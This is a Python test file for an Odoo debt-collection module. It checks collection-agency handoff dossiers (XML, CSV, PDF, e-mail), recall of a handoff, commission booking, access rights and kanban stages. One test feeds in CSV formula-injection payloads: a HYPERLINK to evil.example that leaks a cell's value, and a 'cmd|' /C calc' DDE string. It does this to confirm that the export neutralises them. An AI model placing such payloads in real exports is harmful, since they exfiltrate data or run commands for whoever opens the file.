"""Collection-agency handoff: dossier, exports, dunning stop, outcome."""

import csv
import io
from unittest.mock import patch

import psycopg2
from freezegun import freeze_time
from lxml import etree

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import Form, tagged
from odoo.tools import mute_logger

from odoo.addons.debiteur_dunning.dossier import (
    CSV_NUMERIC_COLUMNS,
    XMLNS,
    dossier_xml,
    schema,
)

from .common import TODAY, DebiteurCommon

EXPECTED_ELEMENTS = {
    "dossier",
    "reference",
    "handoffDate",
    "creditor",
    "name",
    "vat",
    "companyRegistry",
    "agency",
    "agencyType",
    "registrationNumber",
    "debtor",
    "debtorType",
    "address",
    "street",
    "zip",
    "city",
    "country",
    "email",
    "phone",
    "lang",
    "iban",
    "invoices",
    "invoice",
    "number",
    "invoiceDate",
    "dueDate",
    "currency",
    "amountTotal",
    "amountOpen",
    "interest",
    "disputed",
    "costInvoices",
    "claim",
    "principal",
    "interestInvoiced",
    "costs",
    "costsInvoiced",
    "total",
    "communications",
    "communication",
    "date",
    "channel",
    "level",
    "formalNotice",
    "sha256",
    "fileName",
    "arrangements",
    "disputes",
}
DISPUTE_ELEMENTS = {"dispute", "invoiceNumber", "reason"}


class HandoffCommon(DebiteurCommon):
    """A debtor with two invoices reminded at a level ready for collection, an
    agency with and one without e-mail (shared with test_handoff_dossier)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_role_users("ho")
        cls.level1.handoff_ready = True
        cls.debtor.write(
            {
                "street": "Dorpsstraat 1",
                "zip": "1234 AB",
                "city": "Utrecht",
                "country_id": cls.env.ref("base.nl").id,
                "phone": "+31 30 123 4567",
                "company_registry": "12345678",
                "bank_ids": [(0, 0, {"acc_number": "NL91ABNA0417164300"})],
            }
        )
        cls.agency = cls.env["res.partner"].create(
            {
                "name": "Incasso Noord BV",
                "is_company": True,
                "email": "dossiers@incassonoord.example",
                "lang": "en_US",
                "debiteur_agency_type": "incassobureau",
                "debiteur_agency_commission": 10.0,
                "debiteur_agency_registration": "RI-2024-0042",
            }
        )
        cls.agency_no_mail = cls.env["res.partner"].create(
            {
                "name": "Deurwaarder Zonder Mail",
                "is_company": True,
                "debiteur_agency_type": "deurwaarder",
            }
        )
        cls.company.write(
            {
                "debiteur_handoff_commission_account_id": cls.company_data[
                    "default_account_expense"
                ].id,
                "debiteur_handoff_commission_journal_id": cls.company_data[
                    "default_journal_misc"
                ].id,
            }
        )
        cls.inv1 = cls.create_invoice(cls.debtor, 1000.0, cls.d(-60))
        cls.inv2 = cls.create_invoice(cls.debtor, 500.0, cls.d(-58))
        cls.other_inv = cls.create_invoice(cls.other_debtor, 300.0, cls.d(-60))
        run_date = cls.d(-50)
        with freeze_time(run_date):
            wizard = cls.env["debiteur.dunning.wizard"].create({"date": run_date})
            wizard.action_preview()
            wizard.action_confirm()
            cls.env["mail.mail"].sudo().process_email_queue()
        cls.env.invalidate_all()

    # ------------------------------------------------------------------
    def hand_off(self, partners=None, agency=None, reason=None, user=None, **kw):
        env = self.env(user=user) if user else self.env
        with freeze_time(TODAY):
            wizard = env["debiteur.handoff.wizard"].create(
                {
                    "partner_ids": [(6, 0, (partners or self.debtor).ids)],
                    "agency_id": (agency or self.agency).id,
                    "date": TODAY,
                    "reason": reason,
                    **kw,
                }
            )
            action = wizard.action_confirm()
        return env["debiteur.handoff"].search(action.get("domain") or [])

    def xml_of(self, handoff):
        return etree.fromstring(handoff.xml_attachment_id.raw)

    def proposed_partners(self, run_date=TODAY):
        with freeze_time(run_date):
            wizard = self.preview(run_date)
        return wizard.line_ids.partner_id


@tagged("post_install", "-at_install", "debiteur")
class TestHandoff(HandoffCommon):
    def test_candidates(self):
        with freeze_time(TODAY):
            candidates = self.env["res.partner"].search(
                [("debiteur_handoff_candidate", "=", True)]
            )
            self.assertIn(self.debtor, candidates)
            self.assertIn(self.other_debtor, candidates)
            self.assertNotIn(self.agency, candidates)
            self.hand_off()
            candidates = self.env["res.partner"].search(
                [("debiteur_handoff_candidate", "=", True)]
            )
        self.assertNotIn(self.debtor, candidates)
        self.assertIn(self.other_debtor, candidates)

    def test_handoff_stops_dunning_and_shows_at_agency(self):
        self.assertIn(self.debtor, self.proposed_partners())
        handoff = self.hand_off()
        self.assertEqual(handoff.state, "sent")
        self.assertEqual(handoff.move_ids, self.inv1 | self.inv2)
        self.assertEqual((self.inv1 | self.inv2).debiteur_handoff_id, handoff)
        self.assertTrue(self.inv1.debiteur_at_agency)
        proposed = self.proposed_partners()
        self.assertNotIn(self.debtor, proposed)
        self.assertIn(self.other_debtor, proposed)

    def test_case_follows_the_handoff(self):
        def stage():
            case = self.env["debiteur.case"].search(
                [("partner_id", "=", self.debtor.id), ("is_closed", "=", False)]
            )
            return case.stage_id.code

        with freeze_time(TODAY):
            self.assertNotEqual(stage(), "collection")
            handoff = self.hand_off()
            self.assertEqual(stage(), "collection")
            handoff.action_recall()
            self.assertNotEqual(stage(), "collection")

    def test_recall_resumes_dunning(self):
        handoff = self.hand_off()
        handoff.action_recall()
        self.assertEqual(handoff.state, "recalled")
        self.assertFalse((self.inv1 | self.inv2).debiteur_handoff_id)
        self.assertIn(self.debtor, self.proposed_partners())
        # A recalled handoff frees the invoices for a new one.
        self.assertEqual(self.hand_off().move_ids, self.inv1 | self.inv2)

    def test_invoice_in_one_open_handoff_only(self):
        handoff = self.hand_off()
        with self.assertRaises(UserError):
            self.env["debiteur.handoff"]._create_handoff(self.inv1, self.agency, TODAY)
        draft = self.env["debiteur.handoff"].create(
            {"partner_id": self.debtor.id, "agency_id": self.agency.id}
        )
        with (
            self.assertRaises(psycopg2.IntegrityError),
            mute_logger("odoo.sql_db"),
            self.cr.savepoint(),
        ):
            self.env["debiteur.handoff.invoice"].create(
                {"handoff_id": draft.id, "move_id": self.inv1.id}
            )
            self.env.flush_all()
        self.assertEqual(self.inv1.debiteur_handoff_id, handoff)

    def test_only_overdue_posted_customer_invoices_of_one_debtor(self):
        Handoff = self.env["debiteur.handoff"]
        not_due = self.create_invoice(self.debtor, 100.0, self.d(10))
        draft = self.create_invoice(self.debtor, 100.0, self.d(-30), post=False)
        for moves in (not_due, draft, self.inv1 | self.other_inv):
            with self.assertRaises(UserError):
                Handoff._create_handoff(moves, self.agency, TODAY)

    def test_dossier_xml_elements_and_xsd(self):
        handoff = self.hand_off()
        root = self.xml_of(handoff)
        names = {etree.QName(node).localname for node in root.iter()}
        self.assertEqual(names, EXPECTED_ELEMENTS)
        self.assertTrue(schema().validate(root))
        ns = {"d": XMLNS}
        numbers = root.xpath("//d:invoice/d:number/text()", namespaces=ns)
        self.assertEqual(
            sorted(numbers), sorted((self.inv1 | self.inv2).mapped("name"))
        )
        self.assertEqual(
            root.xpath("string(//d:debtor/d:vat/@valid)", namespaces=ns), "true"
        )
        self.assertEqual(
            root.xpath("string(//d:debtor/d:iban/@valid)", namespaces=ns), "true"
        )
        comm = self.comms(self.debtor)[:1]
        self.assertEqual(
            root.xpath("//d:communication/d:sha256/text()", namespaces=ns),
            [comm.letter_sha256],
        )
        self.assertEqual(
            root.xpath("string(//d:claim/d:principal)", namespaces=ns), "1500.00"
        )
        self.assertTrue(handoff.letter_attachment_ids)
        raw = handoff.xml_attachment_id.raw + handoff.csv_attachment_id.raw
        self.assertNotIn(self.other_debtor.name.encode(), raw)
        self.assertNotIn(self.other_inv.name.encode(), raw)

    def test_invalid_numbers_are_flagged(self):
        # base_vat refuses an invalid VAT number on the partner itself.
        self.debtor.write({"company_registry": "12"})
        self.debtor.bank_ids.acc_number = "NL00ABNA0000000000"
        handoff = self.hand_off()
        ns = {"d": XMLNS}
        root = self.xml_of(handoff)
        for path in ("companyRegistry", "iban"):
            self.assertEqual(
                root.xpath(f"string(//d:debtor/d:{path}/@valid)", namespaces=ns),
                "false",
            )
        self.assertIn("not valid", handoff.data_warning)

    def test_broken_dossier_is_refused(self):
        original = dossier_xml.xml_tree

        def broken(data):
            root = original(data)
            root.remove(root[0])  # no reference
            return root

        handoff = self.env["debiteur.handoff"]._create_handoff(
            self.inv1 | self.inv2, self.agency, TODAY
        )
        with patch.object(dossier_xml, "xml_tree", broken):
            with self.assertRaisesRegex(UserError, "schema"):
                handoff.action_hand_off()
        self.assertEqual(handoff.state, "draft")
        self.assertFalse(handoff.xml_attachment_id)
        self.assertFalse(handoff.export_ids)
        self.assertFalse(
            self.env["mail.mail"].search(
                [("model", "=", "debiteur.handoff"), ("res_id", "=", handoff.id)]
            )
        )

    def test_csv(self):
        handoff = self.hand_off()
        rows = list(
            csv.DictReader(
                io.StringIO(handoff.csv_attachment_id.raw.decode()), delimiter=";"
            )
        )
        types = [row["record_type"] for row in rows]
        self.assertEqual(
            types, ["debtor", "invoice", "invoice", "claim", "communication"]
        )
        invoices = [row for row in rows if row["record_type"] == "invoice"]
        self.assertEqual(
            {row["reference"]: row["amount_open"] for row in invoices},
            {self.inv1.name: "1000.00", self.inv2.name: "500.00"},
        )
        self.assertEqual({row["debtor"] for row in rows}, {self.debtor.name})

    def test_csv_neutralises_formulas(self):
        """Text a debtor can edit (portal) never reaches the agency's spreadsheet
        as a formula; amounts stay plain numbers, negative ones included."""
        hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Pay here")'
        self.debtor.write(
            {
                "name": hostile,
                "street": "+31 cmd|' /C calc'!A0",
                "city": "\tTabbed",
                "email": "@SUM(1+1)@evil.example",
                "phone": "-2+3",
                "vat": False,
            }
        )
        handoff = self.hand_off()
        text = handoff.csv_attachment_id.raw.decode()
        rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
        self.assertTrue(rows)
        for row in rows:
            for column, cell in row.items():
                if column in CSV_NUMERIC_COLUMNS and cell:
                    float(cell)  # a number, not text
                    continue
                self.assertFalse(
                    cell.startswith(("=", "+", "-", "@", "\t", "\r")),
                    f"{row['record_type']}.{column} starts like a formula: {cell!r}",
                )
        self.assertEqual({row["debtor"] for row in rows}, {"'" + hostile})
        debtor_row = next(row for row in rows if row["record_type"] == "debtor")
        self.assertTrue(debtor_row["note"].startswith("'+31 cmd"))
        # Nothing is lost: the quote is the only change.
        self.assertIn("@SUM(1+1)@evil.example", debtor_row["note"])
        self.assertIn("-2+3", debtor_row["note"])

    def test_pdf_in_agency_language(self):
        handoff = self.hand_off()
        self.assertTrue(handoff.pdf_attachment_id.raw)
        report = self.env["ir.actions.report"]
        html_en = report._render_qweb_html(
            "debiteur_dunning.action_report_debiteur_handoff", handoff.ids
        )[0].decode()
        self.assertIn("Collection dossier", html_en)
        self.assertIn(self.inv1.name, html_en)
        self.env["res.lang"]._activate_lang("nl_NL")
        self.agency.lang = "nl_NL"
        html_nl = report._render_qweb_html(
            "debiteur_dunning.action_report_debiteur_handoff", handoff.ids
        )[0].decode()
        self.assertIn("Incassodossier", html_nl)
        self.assertNotIn("Collection dossier", html_nl)

    def test_email_and_export_log(self):
        handoff = self.hand_off(user=self.dunning_manager)
        mail = self.env["mail.mail"].search(
            [("model", "=", "debiteur.handoff"), ("res_id", "=", handoff.id)]
        )
        self.assertEqual(len(mail), 1)
        self.assertIn(self.agency, mail.recipient_ids)
        # The agency prefers XML (the default): no CSV copy is sent.
        self.assertEqual(
            mail.attachment_ids,
            handoff.xml_attachment_id
            | handoff.pdf_attachment_id
            | handoff.letter_attachment_ids,
        )
        log = handoff.export_ids
        self.assertEqual(len(log), 1)
        self.assertEqual(log.channel, "email")
        self.assertEqual(log.user_id, self.dunning_manager)
        self.assertEqual(log.recipient, self.agency.email)
        action = handoff.with_user(self.dunning_manager).action_download_xml()
        self.assertEqual(len(handoff.export_ids), 2)
        download = handoff.export_ids.filtered(lambda e: e.channel == "download")
        # The logged download hands out a one-time link of its own.
        self.assertIn(f"/debiteur_dunning/dossier/{download.id}?token=", action["url"])
        self.assertEqual(download.export_format, "xml")
        self.assertEqual(download.attachment_ids, handoff.xml_attachment_id)
        with self.assertRaises(UserError):
            download.write({"recipient": "x"})

    def test_email_follows_the_agency_preferred_format(self):
        self.agency.debiteur_agency_export_format = "csv"
        handoff = self.hand_off(user=self.dunning_manager)
        mail = self.env["mail.mail"].search(
            [("model", "=", "debiteur.handoff"), ("res_id", "=", handoff.id)]
        )
        self.assertIn(handoff.csv_attachment_id, mail.attachment_ids)
        self.assertNotIn(handoff.xml_attachment_id, mail.attachment_ids)
        self.assertIn(handoff.pdf_attachment_id, mail.attachment_ids)

    def test_agency_without_email_download_only(self):
        handoff = self.hand_off(agency=self.agency_no_mail)
        self.assertFalse(
            self.env["mail.mail"].search(
                [("model", "=", "debiteur.handoff"), ("res_id", "=", handoff.id)]
            )
        )
        self.assertFalse(handoff.export_ids)
        with self.assertRaisesRegex(UserError, "no e-mail"):
            handoff.action_send_email()
        handoff.action_download_pdf()
        self.assertEqual(handoff.export_ids.channel, "download")

    def test_consumer_needs_registered_agency(self):
        self.debtor.write({"debiteur_debtor_type": "consumer"})
        with self.assertRaisesRegex(UserError, "Register incassodienstverlening"):
            self.hand_off(agency=self.agency_no_mail)
        self.assertEqual(self.hand_off().partner_id, self.debtor)

    def test_dispute_needs_confirmation_reason(self):
        self.inv2._debiteur_block("Goods damaged")
        with self.assertRaisesRegex(UserError, "reason"):
            self.hand_off()
        handoff = self.hand_off(reason="Dispute rejected by our lawyer")
        self.assertEqual(handoff.override_reason, "Dispute rejected by our lawyer")
        ns = {"d": XMLNS}
        root = self.xml_of(handoff)
        self.assertEqual(
            root.xpath("//d:dispute/d:reason/text()", namespaces=ns),
            ["Goods damaged"],
        )
        names = {etree.QName(node).localname for node in root.iter()}
        self.assertEqual(names, EXPECTED_ELEMENTS | DISPUTE_ELEMENTS)

    def test_payment_through_agency_books_commission(self):
        handoff = self.hand_off()
        bank = self.company_data["default_journal_bank"]
        with freeze_time(TODAY):
            wizard = self.env["debiteur.handoff.payment.wizard"].create(
                {
                    "handoff_id": handoff.id,
                    "received_via": "agency",
                    "amount": 1200.0,
                    "journal_id": bank.id,
                    "date": TODAY,
                }
            )
            self.assertAlmostEqual(wizard.commission, 120.0)
            wizard.action_confirm()
        self.assertAlmostEqual(
            self.inv1.amount_residual + self.inv2.amount_residual, 300
        )
        self.assertEqual(self.inv1.payment_state, "paid")
        payment = handoff.payment_ids
        self.assertAlmostEqual(payment.amount, 1200.0)
        entry = handoff.commission_move_ids
        self.assertEqual(entry.state, "posted")
        self.assertEqual(entry.journal_id, self.company_data["default_journal_misc"])
        expense = entry.line_ids.filtered(
            lambda line: line.account_id == self.company_data["default_account_expense"]
        )
        payable = entry.line_ids - expense
        self.assertAlmostEqual(expense.debit, 120.0)
        self.assertEqual(payable.account_id, self.agency.property_account_payable_id)
        self.assertAlmostEqual(payable.credit, 120.0)
        self.assertEqual(payable.partner_id, self.agency)
        self.assertAlmostEqual(handoff.amount_collected, 1200.0)
        self.assertAlmostEqual(handoff.commission_amount, 120.0)
        self.assertEqual(handoff.state, "sent")

    def test_direct_payment_collects(self):
        handoff = self.hand_off()
        handoff._book_payment(
            1500.0, TODAY, self.company_data["default_journal_bank"], False
        )
        self.assertFalse(handoff.commission_move_ids)
        self.assertEqual(handoff.state, "collected")
        self.assertFalse(self.inv1.debiteur_handoff_id)

    def test_status_updates_and_uncollectible_offers_vat_relief(self):
        handoff = self.hand_off()
        handoff._set_status("in_progress", "Debtor contacted")
        self.assertEqual(handoff.state, "in_progress")
        self.assertTrue(self.inv1.debiteur_handoff_id)
        wizard = self.env["debiteur.handoff.status.wizard"].create(
            {"handoff_id": handoff.id, "state": "uncollectible"}
        )
        action = wizard.action_confirm()
        self.assertEqual(handoff.state, "uncollectible")
        self.assertEqual(action["res_model"], "debiteur.vat.relief.wizard")
        self.assertEqual(
            set(action["context"]["default_move_ids"]), set((self.inv1 | self.inv2).ids)
        )
        # Closed, but still blocked: no reminders for an uncollectible claim.
        self.assertFalse(self.inv1.debiteur_handoff_id)
        self.assertTrue(self.inv1.debiteur_blocked)
        relief = self.env["debiteur.vat.relief.wizard"].with_context(
            **action["context"]
        )
        self.assertEqual(relief.new({}).move_ids._origin, self.inv1 | self.inv2)

    def test_rights(self):
        for user in (self.billing_user, self.dunning_user):
            with self.assertRaises(AccessError):
                self.hand_off(user=user)
        handoff = self.hand_off(user=self.dunning_manager)
        for user in (self.billing_user, self.dunning_user):
            with self.assertRaises(AccessError):
                handoff.with_user(user).read(["name"])
            with self.assertRaises(AccessError):
                self.env["debiteur.handoff"].with_user(user)._create_handoff(
                    self.other_inv, self.agency, TODAY
                )
        # The invoice shows the handoff to everyone who sees the invoice.
        self.assertTrue(self.inv1.with_user(self.billing_user).debiteur_at_agency)

    def test_multi_company(self):
        company_b = self.setup_other_company(name="Handoff B BV")["company"]
        inv_b = self.create_invoice(self.debtor, 777.0, self.d(-60), company=company_b)
        handoff = self.hand_off()
        self.assertNotIn(inv_b, handoff.move_ids)
        raw = handoff.xml_attachment_id.raw + handoff.csv_attachment_id.raw
        self.assertNotIn(b"777.00", raw)
        self.assertNotIn(company_b.name.encode(), raw)
        with self.assertRaises(UserError):
            self.env["debiteur.handoff"]._create_handoff(
                self.inv1 | inv_b, self.agency, TODAY
            )
        handoff_b = (
            self.env["debiteur.handoff"]
            .with_company(company_b)
            ._create_handoff(inv_b, self.agency, TODAY)
        )
        visible = (
            self.env["debiteur.handoff"]
            .with_user(self.dunning_manager)
            .search([("id", "in", (handoff | handoff_b).ids)])
        )
        self.assertEqual(visible, handoff)


@tagged("post_install", "-at_install", "debiteur")
class TestHandoffKanbanColumn(DebiteurCommon):
    """Collection candidates are a column of the follow-up kanban."""

    COLUMNS = [
        "to_remind",
        "reminded",
        "formal_notice",
        "arrangement",
        "ready_collection",
        "collection",
        "disputed",
        "closed",
    ]

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_role_users("hk")
        cls.Case = cls.env["debiteur.case"]
        # The second reminder (21 days after the due date) is the last step
        # before the agency.
        cls.level2.handoff_ready = True
        cls.agency = cls.env["res.partner"].create(
            {
                "name": "Incasso Zuid BV",
                "is_company": True,
                "email": "dossiers@incassozuid.example",
                "debiteur_agency_type": "incassobureau",
                "debiteur_agency_registration": "RI-2025-0007",
            }
        )
        cls.invoice = cls.create_invoice(cls.debtor, 800.0, cls.d(-30))
        cls.other_invoice = cls.create_invoice(cls.other_debtor, 300.0, cls.d(-30))

    def case_of(self, partner=None):
        return self.Case.search(
            [
                ("partner_id", "=", (partner or self.debtor).id),
                ("company_id", "=", self.company.id),
                ("is_closed", "=", False),
            ]
        )

    def stage(self, partner=None):
        case = self.case_of(partner)
        case.invalidate_recordset()
        return case.stage_id.code

    def candidates(self):
        with freeze_time(TODAY):
            return self.env["res.partner"].search(
                [("debiteur_handoff_candidate", "=", True)]
            )

    def kanban(self, user=None):
        """The kanban's grouped read, as the web client does it:
        {stage code: group}, and the codes in column order."""
        Case = self.Case.with_user(user) if user else self.Case
        with freeze_time(TODAY):
            groups = Case.web_read_group(
                [("company_id", "=", self.company.id), ("is_closed", "=", False)],
                ["amount_overdue:sum"],
                ["stage_id"],
                lazy=True,
            )["groups"]
        stages = self.env["debiteur.case.stage"].browse(
            [group["stage_id"][0] for group in groups]
        )
        codes = stages.mapped("code")
        return dict(zip(codes, groups, strict=True)), codes

    def remind_to_ready(self):
        self.run_dunning(self.d(-22))  # first reminder, 8 days late
        self.assertEqual(self.stage(), "reminded")
        self.assertIn(self.debtor, self.proposed())
        self.run_dunning(TODAY)  # second reminder: ready for collection
        self.assertEqual(self.invoice.debiteur_level_id, self.level2)

    def proposed(self):
        with freeze_time(TODAY):
            return self.preview(TODAY).line_ids.partner_id

    def hand_off_from_card(self, case):
        """The card's Hand Off button: the candidates list's wizard."""
        action = case.action_hand_off()
        self.assertEqual(action["res_model"], "debiteur.handoff.wizard")
        self.assertEqual(
            action["context"],
            dict(
                self.debtor.action_debiteur_handoff()["context"],
                default_company_id=self.company.id,
            ),
        )
        with freeze_time(TODAY):
            form = Form(
                self.env["debiteur.handoff.wizard"].with_context(**action["context"])
            )
            form.agency_id = self.agency
            wizard = form.save()
            self.assertEqual(wizard.move_ids, self.invoice)
            self.assertFalse(wizard.needs_confirmation)
            result = wizard.action_confirm()
        return self.env["debiteur.handoff"].browse(result["res_id"])

    # ------------------------------------------------------------------
    def test_ready_then_collection_on_handoff_and_back_on_recall(self):
        self.remind_to_ready()
        case = self.case_of()
        self.assertEqual(self.stage(), "ready_collection")
        self.assertTrue(case.handoff_candidate)
        self.assertEqual(case.highest_level_id, self.level2)
        # The column holds the candidates list's debtors.
        self.assertEqual(
            self.candidates() & (self.debtor | self.other_debtor),
            self.debtor | self.other_debtor,
        )
        columns, codes = self.kanban()
        self.assertEqual(codes, self.COLUMNS)
        ready = columns["ready_collection"]
        self.assertEqual(ready["stage_id_count"], 2)
        self.assertFalse(ready["__fold"])
        self.assertEqual(ready["amount_overdue"], 1100.0)
        self.assertEqual(
            self.Case.search(ready["__domain"]).partner_id,
            self.debtor | self.other_debtor,
        )
        self.assertEqual(columns["collection"]["stage_id_count"], 0)
        self.assertTrue(columns["closed"]["__fold"])

        handoff = self.hand_off_from_card(case)
        self.assertEqual(handoff.state, "sent")
        self.assertEqual(self.stage(), "collection")
        self.assertFalse(case.handoff_candidate)
        self.assertNotIn(self.debtor, self.candidates())
        columns, _codes = self.kanban()
        self.assertEqual(
            self.Case.search(columns["collection"]["__domain"]).partner_id, self.debtor
        )
        self.assertEqual(
            self.Case.search(columns["ready_collection"]["__domain"]).partner_id,
            self.other_debtor,
        )

        with freeze_time(TODAY):
            handoff.action_recall()
        self.assertEqual(self.stage(), "ready_collection")
        self.assertTrue(case.handoff_candidate)
        self.assertIn(self.debtor, self.candidates())
        self.assertEqual(self.kanban()[0]["ready_collection"]["stage_id_count"], 2)

    def test_next_reminder_still_planned_while_ready(self):
        self.remind_to_ready()
        # The daily sync, once the mail queue delivered the second reminder.
        self.env["debiteur.case.sync"]._sync_partners(self.debtor, self.company, TODAY)
        case = self.case_of()
        self.assertEqual(case.stage_id.code, "ready_collection")
        # Dunning goes on until the agency takes over: level 3 at 35 days late,
        # but not within 7 days of the second reminder.
        self.assertEqual(case.next_action_date, self.d(7))

    def test_dispute_block_and_arrangement_come_first(self):
        self.remind_to_ready()
        case = self.case_of()
        with freeze_time(TODAY):
            case._mark_disputed("Price never agreed")
            self.assertEqual(self.stage(), "disputed")
            case.action_resolve_dispute()
            self.assertEqual(self.stage(), "ready_collection")
            # A blocked invoice makes its debtor no candidate.
            self.invoice._debiteur_block("Goods returned, credit note coming")
            self.assertEqual(self.stage(), "reminded")
            self.assertFalse(case.handoff_candidate)
            self.assertNotIn(self.debtor, self.candidates())
            self.invoice.action_debiteur_unblock()
            self.assertEqual(self.stage(), "ready_collection")
            # Neither does an invoice under an active payment arrangement.
            arrangement = (
                self.env["debiteur.arrangement.wizard"]
                .create(
                    {
                        "move_ids": [Command.set(self.invoice.ids)],
                        "instalment_count": 2,
                        "frequency": "monthly",
                        "first_date": self.d(14),
                    }
                )
                ._create_arrangement()
            )
            self.assertEqual(arrangement.state, "active")
            self.assertEqual(self.stage(), "arrangement")
            self.assertFalse(case.handoff_candidate)
            self.assertNotIn(self.debtor, self.candidates())
            arrangement.action_cancel("Debtor stopped answering")
            self.assertEqual(self.stage(), "ready_collection")

    def test_uncollectible_handoff_is_no_candidate_again(self):
        self.remind_to_ready()
        handoff = self.hand_off_from_card(self.case_of())
        with freeze_time(TODAY):
            handoff._set_status("uncollectible", "Debtor has left the country")
        # Closed and blocked: back with the levels, not offered to an agency.
        self.assertTrue(self.invoice.debiteur_blocked)
        self.assertEqual(self.stage(), "reminded")
        self.assertNotIn(self.debtor, self.candidates())

    def test_card_offers_hand_off_to_managers_only(self):
        self.remind_to_ready()
        for user, shown in ((self.dunning_manager, True), (self.dunning_user, False)):
            views = self.Case.with_user(user).get_views([(False, "kanban")])
            arch = etree.fromstring(views["views"]["kanban"]["arch"])
            buttons = arch.xpath("//t[@t-name='card']//button[@name='action_hand_off']")
            self.assertEqual(bool(buttons), shown, user.login)
            if shown:
                self.assertEqual(buttons[0].get("type"), "object")
                self.assertEqual(
                    buttons[0].getparent().get("invisible"),
                    "stage_code != 'ready_collection'",
                )
            # Both see the column and the card.
            columns, codes = self.kanban(user)
            self.assertEqual(codes, self.COLUMNS)
            self.assertEqual(columns["ready_collection"]["stage_id_count"], 2)
        action = self.case_of().with_user(self.dunning_user).action_hand_off()
        with self.assertRaises(AccessError):
            self.env["debiteur.handoff.wizard"].with_user(
                self.dunning_user
            ).with_context(**action["context"]).create({"agency_id": self.agency.id})

    def test_stage_names(self):
        stage = self.env.ref("debiteur_dunning.debiteur_case_stage_ready_collection")
        self.assertEqual(
            stage.with_context(lang="en_US").name, "Ready for Collection Agency"
        )
        self.env["res.lang"]._activate_lang("nl_NL")
        self.env["ir.module.module"]._load_module_terms(
            ["debiteur_dunning"], ["nl_NL"], overwrite=True
        )
        self.assertEqual(stage.with_context(lang="nl_NL").name, "Klaar voor incasso")
        self.assertFalse(stage.fold)
